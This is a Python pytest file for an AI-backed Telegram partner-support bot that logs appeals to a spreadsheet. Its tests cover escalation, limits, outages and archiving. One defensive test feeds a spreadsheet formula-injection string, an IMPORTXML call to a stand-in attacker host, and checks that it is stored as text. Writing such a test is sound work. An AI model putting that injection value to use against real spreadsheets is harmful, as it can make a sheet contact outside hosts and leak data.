"""AppealsService: stateless turns from Обращения, one write per turn, escalation, limits and degraded modes."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Sequence
from datetime import time
from pathlib import Path

import pytest

from bot.ai.base import AIUnavailable, Turn
from bot.ai.fallback import OPERATOR_NOTIFIED
from bot.ai.offline import OFFLINE_INTRO
from bot.services.appeals import ReplyKind, WorkingHours, contains_keyword, limit_text
from bot.services.auth import Partner
from bot.services.chatlog import ChatEntry
from gateway import AsyncSheetsGateway, build_gateway
from gateway.schemas import APPEALS, ARCHIVE, AppealCol, AppealStatus
from tests.chat_support import (
    ChatKit,
    FlakyBackend,
    add_fact,
    build_kit,
    chat_gateway_config,
    flaky_gateway,
    moscow,
    say,
)

PARTNER = Partner(code="P-1", name="Иванов Иван", phone="+79161234567", telegram_id=42)


@pytest.fixture
async def sheet(tmp_path: Path) -> AsyncIterator[tuple[AsyncSheetsGateway, FlakyBackend]]:
    """A local gateway whose sheet can be taken down."""
    async with flaky_gateway(chat_gateway_config(tmp_path)) as sheet:
        yield sheet


@pytest.fixture
def kit(sheet: tuple[AsyncSheetsGateway, FlakyBackend]) -> ChatKit:
    """The chat services on that gateway, the clock at Mon 23 Nov 2026 14:05 Moscow."""
    return build_kit(sheet[0])


async def _row(gw: AsyncSheetsGateway, tid: int = 42) -> dict[str, str]:
    rec = await gw.table(APPEALS).get(str(tid))
    assert rec is not None
    return dict(rec)


def _writes(gw: AsyncSheetsGateway) -> int:
    return gw.metrics.calls["batch_update"] + gw.metrics.calls["append"]


async def test_first_message_creates_the_row_in_one_write(kit: ChatKit) -> None:
    """The first turn creates the row (Дата, Код, ФИО, Telegram ID) with both entries and Ответ ИИ, in one write."""
    before = _writes(kit.gw)
    reply = await say(kit.appeals, PARTNER, "Привет")
    assert reply.text == "Ответ 1: Привет" and reply.status == AppealStatus.AI and reply.kind is ReplyKind.ANSWER
    assert reply.offer_operator and not reply.escalated
    assert _writes(kit.gw) - before == 1
    row = await _row(kit.gw)
    assert row[AppealCol.LOG] == "[2026-11-23 14:05] Пользователь: Привет\n[2026-11-23 14:05] ИИ: Ответ 1: Привет"
    assert row[AppealCol.STATUS] == "Ответ ИИ"
    assert (row[AppealCol.CODE], row[AppealCol.NAME], row[AppealCol.TELEGRAM_ID]) == ("P-1", "Иванов Иван", "42")
    assert row[AppealCol.DATE] == row[AppealCol.UPDATED] == "2026-11-23 14:05:00"


async def test_open_creates_a_new_row_once(kit: ChatKit) -> None:
    """Authorization opens the row with status Новое; opening again changes nothing."""
    await kit.appeals.open(PARTNER)
    row = await _row(kit.gw)
    assert row[AppealCol.STATUS] == "Новое" and row[AppealCol.LOG] == ""
    await kit.gw.table(APPEALS).write([kit.gw.table(APPEALS).op_upsert("42", {AppealCol.STATUS: "Решено"})])
    await kit.appeals.open(PARTNER)
    assert (await _row(kit.gw))[AppealCol.STATUS] == "Решено"


async def test_every_turn_reads_history_fresh_and_writes_once(kit: ChatKit) -> None:
    """Each turn sends the log's history to the model and costs exactly one write."""
    await say(kit.appeals, PARTNER, "Первый")
    kit.clock.advance(minutes=1)
    before = _writes(kit.gw)
    await say(kit.appeals, PARTNER, "Второй")
    assert _writes(kit.gw) - before == 1
    assert kit.ai.calls[1].history == [Turn("user", "Первый"), Turn("model", "Ответ 1: Первый")]
    assert kit.ai.calls[1].user_text == "Второй"
    assert kit.ai.calls[1].system == kit.prompt.text


async def test_staff_edit_of_the_log_is_seen_by_the_next_turn(kit: ChatKit) -> None:
    """Staff rewrite the log between turns: the model gets the edited history, never a cached one."""
    await say(kit.appeals, PARTNER, "Первый")
    edited = (
        "[2026-11-23 14:05] Пользователь: Первый\n"
        "[2026-11-23 14:05] ИИ: Исправлено оператором\n"
        "[23.11.2026 14:06] Менеджер: Комиссия по договору"
    )
    await kit.gw.table(APPEALS).write([kit.gw.table(APPEALS).op_upsert("42", {AppealCol.LOG: edited})])
    await say(kit.appeals, PARTNER, "Второй")
    assert kit.ai.calls[1].history == [
        Turn("user", "Первый"),
        Turn("model", "Исправлено оператором"),
        Turn("model", "Оператор: Комиссия по договору"),
    ]
    assert (await _row(kit.gw))[AppealCol.LOG].startswith(edited + "\n[2026-11-23 14:05] Пользователь: Второй")


async def test_knowledge_base_entries_reach_the_model(kit: ChatKit) -> None:
    """The most relevant active knowledge-base entries are passed to the model as context."""
    await add_fact(kit.gw, "Какая комиссия партнёра?", "50% от комиссии агентства.", "комиссия, вознаграждение")
    await add_fact(kit.gw, "Есть ли парковка?", "Да.", "парковка")
    await say(kit.appeals, PARTNER, "Какая у вас комиссия?")
    assert kit.ai.calls[0].context == ["Вопрос: Какая комиссия партнёра?\nОтвет: 50% от комиссии агентства."]


async def test_formula_looking_text_is_stored_verbatim(kit: ChatKit) -> None:
    """A message like =IMPORTXML(...) is written as text, exactly as typed."""
    text = '=IMPORTXML("http://evil.example/x", "//a")'
    await say(kit.appeals, PARTNER, text)
    assert f"Пользователь: {text}\n" in (await _row(kit.gw))[AppealCol.LOG]


async def test_escalation_hands_over_and_silences_the_ai(kit: ChatKit) -> None:
    """A keyword sets В работе, tells staff (name, code, last turns) and the user; later messages get no AI answer."""
    await say(kit.appeals, PARTNER, "Сколько платите?")
    reply = await say(kit.appeals, PARTNER, "Позовите оператора, пожалуйста")
    assert reply.escalated and reply.status == AppealStatus.IN_WORK and reply.kind is ReplyKind.ESCALATED
    assert "оператору" in reply.text and not reply.offer_operator
    assert len(kit.ai.calls) == 1
    (note,) = kit.messenger.staff
    assert "Иванов Иван" in note and "P-1" in note and "42" in note
    assert "Пользователь: Сколько платите?" in note and "Позовите оператора" in note
    row = await _row(kit.gw)
    assert row[AppealCol.STATUS] == "В работе"
    assert row[AppealCol.LOG].endswith("Пользователь: Позовите оператора, пожалуйста")
    silent = await say(kit.appeals, PARTNER, "Ну где вы?")
    assert silent.text == "" and silent.kind is ReplyKind.SILENT and len(kit.ai.calls) == 1
    assert (await _row(kit.gw))[AppealCol.LOG].endswith("Пользователь: Ну где вы?")
    assert "Ну где вы?" in kit.messenger.staff[-1]


async def test_escalation_outside_working_hours_says_when(kit: ChatKit) -> None:
    """At 22:30 Moscow the user is told operators work 09:00–20:00 and will answer tomorrow after 09:00."""
    kit.clock.now = moscow(2026, 11, 23, 22, 30)
    reply = await say(kit.appeals, PARTNER, "нужен менеджер")
    assert "нерабочее время" in reply.text and "с 09:00 до 20:00" in reply.text and "завтра после 09:00" in reply.text
    kit.clock.now = moscow(2026, 11, 24, 7, 0)
    await kit.gw.table(APPEALS).write([kit.gw.table(APPEALS).op_upsert("42", {AppealCol.STATUS: "Решено"})])
    early = await say(kit.appeals, PARTNER, "нужен человек")
    assert "сегодня после 09:00" in early.text


async def test_status_back_to_ai_or_solved_returns_the_user(kit: ChatKit) -> None:
    """Staff setting Ответ ИИ or Решено hands the user back; after Решено a message reopens as Ответ ИИ."""
    await say(kit.appeals, PARTNER, "оператор")
    for status in ("Ответ ИИ", "Решено"):
        await kit.gw.table(APPEALS).write([kit.gw.table(APPEALS).op_upsert("42", {AppealCol.STATUS: status})])
        reply = await say(kit.appeals, PARTNER, f"вопрос после {status}")
        assert reply.kind is ReplyKind.ANSWER and reply.text.endswith(f"вопрос после {status}")
        assert (await _row(kit.gw))[AppealCol.STATUS] == "Ответ ИИ"


async def test_a_status_change_during_generation_is_not_undone(kit: ChatKit) -> None:
    """Staff take over while the model is thinking: the turn's write leaves their В работе in place."""
    await say(kit.appeals, PARTNER, "Первый")

    async def staff_takes_over() -> None:
        await kit.gw.table(APPEALS).write([kit.gw.table(APPEALS).op_upsert("42", {AppealCol.STATUS: "В работе"})])

    kit.ai.during = staff_takes_over
    await say(kit.appeals, PARTNER, "Второй")
    assert (await _row(kit.gw))[AppealCol.STATUS] == "В работе"


async def test_request_human_button(kit: ChatKit) -> None:
    """The button escalates like a keyword; pressing it again says an operator is already on it."""
    await say(kit.appeals, PARTNER, "Вопрос")
    first = await kit.appeals.request_human(PARTNER)
    assert first.escalated and (await _row(kit.gw))[AppealCol.STATUS] == "В работе"
    assert len(kit.messenger.staff) == 1 and "Пользователь: Вопрос" in kit.messenger.staff[0]
    again = await kit.appeals.request_human(PARTNER)
    assert not again.escalated and "уже" in again.text and len(kit.messenger.staff) == 1


async def test_daily_limit_survives_restarts_and_resets_next_day(
    sheet: tuple[AsyncSheetsGateway, FlakyBackend], tmp_path: Path
) -> None:
    """After DAILY_AI_LIMIT answers the user gets the limit message, also after a restart, until the next day."""
    gw, _ = sheet
    kit = build_kit(gw, daily_limit=2)
    for i in range(2):
        assert (await say(kit.appeals, PARTNER, f"q{i}")).kind is ReplyKind.ANSWER
    limited = await say(kit.appeals, PARTNER, "q2")
    assert limited.kind is ReplyKind.LIMIT and limited.text == limit_text(2) and len(kit.ai.calls) == 2
    assert "q2" not in (await _row(gw))[AppealCol.LOG]  # refused, so not stored
    await gw.close()
    gw2 = build_gateway(chat_gateway_config(tmp_path))
    await gw2.start()
    try:
        kit2 = build_kit(gw2, daily_limit=2, clock=kit.clock)
        assert (await say(kit2.appeals, PARTNER, "q3")).kind is ReplyKind.LIMIT
        assert kit2.ai.calls == []
        kit.clock.advance(days=1)
        assert (await say(kit2.appeals, PARTNER, "q4")).kind is ReplyKind.ANSWER
    finally:
        await gw2.close()
        await gw.start()  # the fixture closes it again


async def test_ai_failure_gives_offline_answer_and_notifies_staff(kit: ChatKit) -> None:
    """When the model fails, the user gets the offline answer + operator note, staff are told once, no count."""
    await add_fact(kit.gw, "Какая комиссия партнёра?", "50% от комиссии агентства.", "комиссия")
    kit.ai.fail_with = AIUnavailable("503 from the model")
    reply = await say(kit.appeals, PARTNER, "какая комиссия?")
    assert reply.kind is ReplyKind.FALLBACK and reply.offer_operator
    assert reply.text == f"{OFFLINE_INTRO}\n\n50% от комиссии агентства.\n\n{OPERATOR_NOTIFIED}"
    (note,) = kit.messenger.staff
    assert "Иванов Иван" in note and "503 from the model" in note
    assert (await _row(kit.gw))[AppealCol.LOG].endswith(f"ИИ: {reply.text}")
    await say(kit.appeals, PARTNER, "ещё раз")
    assert len(kit.messenger.staff) == 1  # throttled per partner
    kit.clock.advance(minutes=11)
    await say(kit.appeals, PARTNER, "и ещё")
    assert len(kit.messenger.staff) == 2
    assert await kit.gw.state.counter_get("ai-answers:42", "2026-11-23") == 0


async def test_sheet_down_still_answers_and_the_write_lands_later(
    kit: ChatKit, sheet: tuple[AsyncSheetsGateway, FlakyBackend]
) -> None:
    """With the sheet unreachable the user is still answered, with the history the last turn left (the sheet
    cannot be read, the bot remembers it); the turn reaches the sheet later."""
    gw, backend = sheet
    await say(kit.appeals, PARTNER, "Первый")
    backend.down = True
    reply = await say(kit.appeals, PARTNER, "Второй")
    assert reply.text == "Ответ 2: Второй"
    assert kit.ai.calls[1].history == [Turn("user", "Первый"), Turn("model", "Ответ 1: Первый")]
    assert gw.outbox_depth == 1
    backend.down = False
    assert await gw.writer.wait_empty(5.0)
    log = (await _row(gw))[AppealCol.LOG]
    assert log.endswith("Пользователь: Второй\n[2026-11-23 14:05] ИИ: Ответ 2: Второй")
    assert log.count("Пользователь: Первый") == 1


async def test_turns_of_one_user_are_serialized(kit: ChatKit) -> None:
    """Two messages of one partner at once: the second turn sees the first one's answer in its history."""
    kit.ai.delay = 0.05
    await asyncio.gather(say(kit.appeals, PARTNER, "A"), say(kit.appeals, PARTNER, "B"))
    assert kit.ai.max_in_flight == 1
    assert kit.ai.calls[1].history == [Turn("user", "A"), Turn("model", "Ответ 1: A")]
    log = (await _row(kit.gw))[AppealCol.LOG]
    assert log.index("Пользователь: A") < log.index("ИИ: Ответ 1: A") < log.index("Пользователь: B")


async def test_different_users_run_concurrently(kit: ChatKit) -> None:
    """Turns of different partners overlap in time (the lock is per partner)."""
    kit.ai.delay = 0.05
    others = [Partner(f"P-{i}", f"Партнёр {i}", "", 1000 + i) for i in range(5)]
    await asyncio.gather(*(say(kit.appeals, p, "привет") for p in others))
    assert kit.ai.max_in_flight == 5
    rows = await kit.gw.table(APPEALS).all()
    assert sorted(r[AppealCol.TELEGRAM_ID] for r in rows) == [str(1000 + i) for i in range(5)]


async def test_history_for_the_web_app(kit: ChatKit) -> None:
    """history() returns the parsed log, oldest first; an unknown user has none."""
    await say(kit.appeals, PARTNER, "Вопрос")
    entries = await kit.appeals.history(42)
    assert [(e.author, e.text) for e in entries] == [("Пользователь", "Вопрос"), ("ИИ", "Ответ 1: Вопрос")]
    assert isinstance(entries[0], ChatEntry) and entries[0].at is not None and entries[0].at.hour == 14
    assert await kit.appeals.history(999) == []


async def test_long_logs_move_to_the_archive(kit: ChatKit) -> None:
    """When the log would pass 50,000 characters the oldest entries move to Архив and nothing is lost."""
    kit.ai.answers = ["о" * 4000 for _ in range(20)]
    for i in range(14):
        await say(kit.appeals, PARTNER, f"вопрос {i} " + "x" * 100)
    row = await _row(kit.gw)
    archived = await kit.gw.table(ARCHIVE).all()
    assert archived and len(row[AppealCol.LOG]) <= 50_000
    everything = "\n".join([a["текст_обращений"] for a in archived] + [row[AppealCol.LOG]])
    for i in range(14):
        assert everything.count(f"Пользователь: вопрос {i} ") == 1


async def test_status_typed_in_lower_case_is_understood(kit: ChatKit) -> None:
    """Staff typing `в работе` by hand (not from the dropdown) still silences the AI."""
    await say(kit.appeals, PARTNER, "Вопрос")
    await kit.gw.table(APPEALS).write([kit.gw.table(APPEALS).op_upsert("42", {AppealCol.STATUS: " в  работе "})])
    assert (await say(kit.appeals, PARTNER, "Ещё")).kind is ReplyKind.SILENT
    assert len(kit.ai.calls) == 1


def test_keywords_match_word_starts_in_any_case() -> None:
    """Keywords match inflected forms at the start of a word, in any case, and not inside other words."""
    keys = ["оператор", "менеджер", "человек", "operator"]
    assert contains_keyword("Позовите ОПЕРАТОРА", keys)
    assert contains_keyword("нужен живой человек!", keys)
    assert contains_keyword("call an operator", keys)
    assert not contains_keyword("сколько платите за сделку", keys)
    assert not contains_keyword("кооператоры", keys)


def test_working_hours() -> None:
    """09:00–20:00 Moscow: open at 09:00 and 19:59, closed at 20:00; a night shift crossing midnight works."""
    hours = WorkingHours()
    assert hours.is_open(moscow(2026, 11, 23, 9, 0)) and hours.is_open(moscow(2026, 11, 23, 19, 59))
    assert not hours.is_open(moscow(2026, 11, 23, 20, 0)) and not hours.is_open(moscow(2026, 11, 23, 3, 0))
    assert hours.next_opening(moscow(2026, 11, 23, 21, 0)).day == 24
    night = WorkingHours(start=time(22, 0), end=time(6, 0))
    assert night.is_open(moscow(2026, 11, 23, 23, 0)) and not night.is_open(moscow(2026, 11, 23, 12, 0))


async def test_handle_message_reads_auth_and_row_in_one_call(kit: ChatKit) -> None:
    """Authorizing and loading the row go out as one batched read; the Telegram and Mini App paths alike."""
    await say(kit.appeals, PARTNER, "Привет")  # the row exists, its key is known
    calls: list[list[str]] = []
    real_batch_get = kit.gw.backend.batch_get

    async def spy(ranges: Sequence[str]) -> list[list[list[str]]]:
        calls.append(list(ranges))
        return await real_batch_get(ranges)

    kit.gw.backend.batch_get = spy  # type: ignore[method-assign]

    async def authorize(telegram_id: int) -> Partner | None:
        # Stands in for AuthService.check: one gateway read of its own, issued at the same moment.
        await kit.gw.read_ranges(["'Auth'!1:1"])
        return PARTNER if telegram_id == 42 else None

    partner, reply = await kit.appeals.handle_message(42, "Второй вопрос", authorize)
    assert partner == PARTNER and reply is not None and reply.text == "Ответ 2: Второй вопрос"
    assert "'Auth'!1:1" in calls[0] and "'Обращения'!2:2" in calls[0]
    assert (await kit.appeals.handle_message(7, "Чужой", authorize)) == (None, None)


async def test_a_turn_during_an_outage_does_not_overwrite_in_work(
    kit: ChatKit, sheet: tuple[AsyncSheetsGateway, FlakyBackend]
) -> None:
    """The row cannot be read, so its status is unknown: the journaled turn must not replace staff's В работе."""
    gw, backend = sheet
    await say(kit.appeals, PARTNER, "Первый")
    await gw.table(APPEALS).write([gw.table(APPEALS).op_upsert("42", {AppealCol.STATUS: "В работе"})])
    backend.down = True
    await say(kit.appeals, PARTNER, "Второй")
    backend.down = False
    assert await gw.writer.wait_empty(5.0)
    row = await _row(gw)
    assert row[AppealCol.LOG].endswith("Пользователь: Второй\n[2026-11-23 14:05] ИИ: Ответ 2: Второй")
    assert row[AppealCol.STATUS] == "В работе"


async def test_staff_notes_in_the_log_are_not_shown_to_the_partner(kit: ChatKit) -> None:
    """Notes staff type into the log (untagged text, unknown authors) stay out of the partner's history."""
    await say(kit.appeals, PARTNER, "Вопрос")
    log = (await _row(kit.gw))[AppealCol.LOG]
    edited = "внутреннее: VIP-клиент\n" + log + "\n[2026-11-23 15:00] Заметка: не давать скидку"
    await kit.gw.table(APPEALS).write([kit.gw.table(APPEALS).op_upsert("42", {AppealCol.LOG: edited})])
    entries = await kit.appeals.history(42)
    assert [(e.author, e.text) for e in entries] == [("Пользователь", "Вопрос"), ("ИИ", "Ответ 1: Вопрос")]
